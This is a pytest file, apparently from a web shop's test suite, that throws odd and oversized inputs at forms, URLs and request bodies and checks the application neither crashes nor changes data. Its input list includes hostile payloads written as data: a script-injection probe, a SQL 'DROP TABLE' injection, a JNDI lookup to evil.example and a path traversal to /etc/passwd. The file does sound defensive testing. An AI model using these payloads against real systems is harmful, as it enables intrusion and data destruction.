"""T30: a body, a field or a character that nobody expected breaks a page, fills the disk, or slips past a check."""

from collections.abc import Iterator
from urllib.parse import quote

import pytest

from tests.attacks.wiles import ADAS_MUG, ADAS_PAID
from tests.browsing import Street, goods, messages, moved

ODD = (
    "",
    " ",
    "\u200b\u2060\ufeff",
    "\u202eHP-AMVG-0000",
    "\x00",
    "A" * 60_000,
    "-1",
    "1e999",
    "NaN",
    "Infinity",
    "9" * 400,
    "٣",
    "<script>alert(1)</script>",
    "'; DROP TABLE orders; --",
    "${jndi:ldap://evil.example}",
    "../../../etc/passwd",
    "\ud83d",
    "null",
    "[]",
)


@pytest.mark.parametrize("path", ["/chat", "/sign-in", "/basket", "/register", f"/orders/{ADAS_PAID}/cancel"])
def test_a_megabyte_is_refused_announced_or_in_pieces(street: Street, path: str) -> None:
    def pieces() -> Iterator[bytes]:
        for _ in range(32):
            yield b"message=" + b"x" * 32_768

    browser = street.signed_in("ada")
    assert browser.post(path, content=b"message=" + b"x" * 1_048_576).status_code == 413
    assert browser.post(path, content=pieces()).status_code == 413
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    assert browser.post(path, content=b"x", headers={"Content-Length": "-1", **form}).status_code in (400, 413)
    assert street.building.order(ADAS_PAID).status == "paid" and messages(street.building, "ada") == []


def test_no_odd_value_in_any_form_breaks_or_changes_anything(street: Street) -> None:
    browser = street.signed_in("ada")
    before = goods(street.building)
    tries = [
        (f"/orders/{ADAS_MUG}/refund", lambda odd: {"lines": odd, "reason": "x"}),
        (f"/orders/{ADAS_PAID}/address", lambda odd: {"address": odd}),
        ("/basket", lambda odd: {"sku": "mug-pine", "quantity": odd if odd not in ("", "٣") else "0"}),
        ("/basket", lambda odd: {"sku": odd, "quantity": "1"}),
        ("/basket", lambda odd: {"sku": odd, "quantity": "x"}),
        ("/checkout", lambda odd: {"address": odd, "payment": odd, "seen": odd}),
        ("/account/security/fresh", lambda odd: {"code": odd[:70]}),
    ]
    for path, form in tries:
        for odd in ODD:
            fields = {name: value.encode("utf-8", "replace").decode() for name, value in form(odd).items()}
            answer = browser.post(path, data=fields)
            assert answer.status_code < 500, (path, odd[:30], answer.status_code)
            assert answer.status_code != 303 or path in ("/checkout", "/basket"), (path, odd[:30])
    after = goods(street.building)
    assert after == before and moved(street.building) == []


def test_no_odd_value_in_an_address_breaks_a_page(street: Street) -> None:
    browser = street.signed_in("ada")
    for path in (
        "/orders/{}",
        "/p/{}",
        "/c/{}",
        "/approvals/{}",
        "/chat/{}",
        "/search?q={}",
        "/search?category={}",
        "/orders?page={}",
    ):
        for odd in ODD:
            text = odd.encode("utf-8", "replace").decode()[:3000]
            answer = browser.get(path.format(quote(text, safe="")))
            assert answer.status_code < 500, (path, odd[:30])
            assert "<script>alert" not in answer.text


def test_a_message_of_nothing_or_of_too_much_is_told_so_and_not_stored(street: Street) -> None:
    browser = street.signed_in("ada")
    for text in ("", "   ", "\u200b\u200d", "x" * 2001):
        assert browser.post("/chat", data={"message": text, "conversation": "", "hint": ""}).status_code == 422
    assert messages(street.building, "ada") == []


def test_no_odd_request_id_breaks_a_change(street: Street) -> None:
    browser = street.signed_in("ada")
    for odd in ODD:
        text = odd.encode("utf-8", "replace").decode()
        answer = browser.post("/basket", data={"sku": "mug-pine", "quantity": "1", "request_id": text})
        assert answer.status_code < 500, odd[:30]


def test_text_that_no_encoding_can_carry_is_answered(street: Street) -> None:
    form = b'--cut\r\nContent-Disposition: form-data; name="email"\r\n\r\n+2AA-x\r\n--cut--\r\n'
    kind = {"Content-Type": "multipart/form-data; boundary=cut; charset=utf-7"}
    assert street.browser().post("/forgot", content=form, headers=kind).status_code == 422


def test_no_position_is_too_far(street: Street) -> None:
    browser = street.signed_in("ada")
    browser.post("/chat", data={"message": "hello", "conversation": "", "hint": ""})
    said = browser.get("/chat").text
    conversation = said.partition('name="conversation" value="')[2].partition('"')[0]
    assert conversation
    for odd in ("9" * 30, "-1", "0"):
        assert browser.get(f"/chat/{conversation}/since/{odd}").status_code == 200, odd
